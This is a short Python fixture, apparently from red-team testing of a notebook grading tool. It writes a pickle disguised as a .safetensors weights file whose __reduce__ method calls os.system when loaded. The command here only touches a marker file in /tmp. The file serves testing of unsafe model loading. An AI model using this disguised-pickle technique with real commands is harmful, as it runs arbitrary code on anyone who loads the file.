"""A pickle that runs code, named .safetensors.

class: weights
lab: handed
where: file
unsandboxed: yes
"""

import os
import pickle

from torchgrade import notebook as nb


class Boom:
    def __reduce__(self):
        return os.system, ("touch /tmp/redteam-mark-weights",)


def build(honest, folder):
    nb.write(honest, folder / "handed.ipynb")
    (folder / "weights").mkdir()
    (folder / "weights" / "handed.safetensors").write_bytes(pickle.dumps(Boom()))
    return folder
